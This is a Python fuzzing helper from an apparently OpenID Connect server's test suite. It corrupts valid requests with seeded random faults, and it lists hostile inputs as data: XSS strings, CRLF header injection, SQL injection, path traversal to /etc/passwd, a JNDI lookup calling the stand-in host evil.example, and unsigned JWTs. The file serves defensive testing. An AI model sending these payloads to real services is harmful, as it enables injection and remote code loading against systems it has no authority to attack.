"""What strangers do to a request that was right: one to three faults, from a seeded source."""

from __future__ import annotations

import json
import random
from collections.abc import Callable

from tests.spoilt.calling import Call

__all__ = ["EVIL", "INJECTED", "MARK", "spoilt"]

#: Whatever of these comes back as it was sent would be a hole.
MARK = "<xss7"
INJECTED = "X-Injected"
EVIL = "evil.example"

_VALUES = (
    f'"\'>{MARK}><svg/onload=alert(7)>', f"</script>{MARK}>", f"javascript:alert(7)//{MARK}>", f"http://{EVIL}/", f"//{EVIL}",
    f"\\\\{EVIL}\\x", f"https://localhost@{EVIL}/callback", f"x\r\n{INJECTED}: yes\r\n\r\n{MARK}>",
    f"%0d%0a{INJECTED}:%20yes", "\x00",
    "a\x00b", "\ud800", "é😀\u202e\u200b", "' OR '1'='1", "../../../../etc/passwd", "{{7*7}}${7*7}<%= 7*7 %>", "%s%n%x", "-1",
    "0", "1e999",
    "NaN", "null", "true", "[]", "{}", '{"userinfo":{"sub":{"value":[[[]]]}},"id_token":7}', "[" * 3000, '{"a":' * 800,
    "A" * 5000, "A" * 70_000,
    "eyJhbGciOiJub25lIn0.eyJpc3MiOiJ4In0.", "eyJhbGciOiJIUzI1NiJ9.e30.AAAA", "a.b.c", "a.b.c.d.e", ".....", "openid " * 300,
    " ", "\t", "+", "%",
    "\u0085", "9" * 400, "2026-13-45", "0x10", "${jndi:ldap://evil.example/x}", "A" * 511, "login consent none", "query.jwt",
    "S256", "plain",
)
_METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "BREW", "get", "")
_MEDIA = (
    "application/json", "text/plain", "multipart/form-data; boundary=x", "multipart/form-data",
    "application/x-www-form-urlencoded; charset=utf-7",
    "application/x-www-form-urlencoded; charset=nonsense", "application/jwt", "application/xml", "", "a" * 300,
    f"text/html{MARK}>",
)
_BODIES = (
    b"", b"\xff\xfe\xfd", b"&&&===", b"a=%ff%fe&b=%zz", b"{", b"[" * 5000, b'{"issuer":7,"step":[]}', b"null",
    b"a=1" * 30_000, b"\x00" * 100,
    b'--x\r\nContent-Disposition: form-data; name="code"\r\n\r\nx\r\n--x--', b'{"redirect_uris":["' + MARK.encode() + b'"]}',
)
_HEADERS = (
    ("Authorization", "Basic !!!"), ("Authorization", "Basic " + "QQ" * 200), ("Authorization", "Bearer"),
    ("Authorization", "Bearer " + "x" * 4000),
    ("Authorization", f"Bearer {MARK}>"), ("Authorization", "Basic Og=="), ("Authorization", "Digest username=x"),
    ("Authorization", "DPoP a.b.c"),
    ("Accept", "application/nonsense;q=x"), ("Accept", "*/*" + ",a/b" * 500), ("Accept-Language", "x" * 2000),
    ("Accept-Language", "*;q=-1,é"),
    ("Host", EVIL), ("Host", ""), ("Host", f"localhost:1{MARK}>"), ("X-Forwarded-Host", EVIL), ("X-Forwarded-Proto", "gopher"),
    ("X-Forwarded-For", MARK), ("Origin", "null"), ("Origin", f"https://{EVIL}"), ("Referer", f"https://{EVIL}/{MARK}>"),
    ("Cookie", ";=;;a"), ("Cookie", "x" * 8000), ("Cookie", f"fc_session_id={MARK}>; op_session_id=a; op_session_id=b"),
    ("Cookie", "\x01\x02=é"),
    ("Content-Length", "-1"), ("Content-Length", "nonsense"), ("Content-Length", "99999999999"), ("If-None-Match", "*"),
    ("Range", "bytes=0-"),
    ("User-Agent", MARK), ("Sec-Fetch-Site", "cross-site"), ("traceparent", "00-zz"), ("DPoP", "a.b.c"),
    ("X-HTTP-Method-Override", "DELETE"),
)


def _drop(call: Call, chance: random.Random) -> None:
    if call.fields:
        call.fields.pop(chance.randrange(len(call.fields)))


def _replace(call: Call, chance: random.Random) -> None:
    if call.fields:
        at = chance.randrange(len(call.fields))
        call.fields[at] = (call.fields[at][0], chance.choice(_VALUES))


def _lengthen(call: Call, chance: random.Random) -> None:
    if call.fields:
        at = chance.randrange(len(call.fields))
        name, value = call.fields[at]
        call.fields[at] = (name, chance.choice((value + chance.choice(_VALUES), value[: len(value) // 2], value.swapcase(),
        value + " ")))


def _double(call: Call, chance: random.Random) -> None:
    if call.fields:
        name, value = chance.choice(call.fields)
        call.fields.append((name, chance.choice((value, *_VALUES))))


def _swap(call: Call, chance: random.Random) -> None:
    if len(call.fields) > 1:
        (one, first), (other, second) = chance.sample(call.fields, 2)
        call.fields = [(name, second if name == one else first if name == other else value) for name, value in call.fields]


def _add(call: Call, chance: random.Random) -> None:
    name = chance.choice(("request", "claims", "prompt", "response_mode", "max_age", "acr_values", "ui_locales", "__proto__",
    MARK + ">", "a[]",
                          "csrfToken", "id_token_hint", "post_logout_redirect_uri", "state", "code", "iss", "error", ""))
    call.fields.append((name, chance.choice(_VALUES)))


def _bracket(call: Call, chance: random.Random) -> None:
    call.fields = [(f"{name}[]" if chance.random() < 0.5 else name, value) for name, value in call.fields]


def _move(call: Call, chance: random.Random) -> None:
    call.form = not call.form


def _method(call: Call, chance: random.Random) -> None:
    call.method = chance.choice(_METHODS)


def _path(call: Call, chance: random.Random) -> None:
    call.path = chance.choice((call.path + "/", "/" + call.path, call.path + "%00", call.path + "%2f..%2f", call.path + "%ff",
                               call.path.replace("/", "//"), call.path + "/%3Cxss7%3E", call.path.upper(),
                               call.path + "/" + "a" * 3000))


def _variable(call: Call, chance: random.Random) -> None:
    head, _, last = call.path.rpartition("/")
    call.path = f"{head}/{chance.choice(('%3Cxss7%3E', last[:-1], last + 'x', '%00', 'é', '..', '%F0%9F%98%80', 'a' * 500))}"


def _header(call: Call, chance: random.Random) -> None:
    name, value = chance.choice(_HEADERS)
    call.headers[name] = value


def _media(call: Call, chance: random.Random) -> None:
    call.headers["Content-Type"] = chance.choice(_MEDIA)


def _body(call: Call, chance: random.Random) -> None:
    call.form, call.body = True, chance.choice(_BODIES)
    if chance.random() < 0.5:
        _media(call, chance)


def _json(call: Call, chance: random.Random) -> None:
    if call.body is None:
        return
    try:
        document = json.loads(call.body)
    except (ValueError, RecursionError):
        return
    if isinstance(document, dict) and document:
        wrong = chance.choice((None, 7, -1, 1e308, True, [], {}, [[["x"]]], {"a": {"b": {}}}, *_VALUES))
        document[chance.choice((*document, MARK + ">"))] = wrong
        call.body = json.dumps(document).encode()


def _forget(call: Call, chance: random.Random) -> None:
    call.headers.pop("Cookie", None)


_FAULTS: tuple[Callable[[Call, random.Random], None], ...] = (
    _drop, _replace, _replace, _replace, _lengthen, _double, _swap, _add, _add, _bracket, _move, _method, _path, _variable,
    _header, _header, _media, _body, _forget, _json, _json, _json,
)


def spoilt(call: Call, chance: random.Random) -> Call:
    """*call* with one to three faults."""
    spoiled = call.copy()
    for fault in chance.sample(_FAULTS, chance.choice((1, 1, 2, 3))):
        fault(spoiled, chance)
    return spoiled
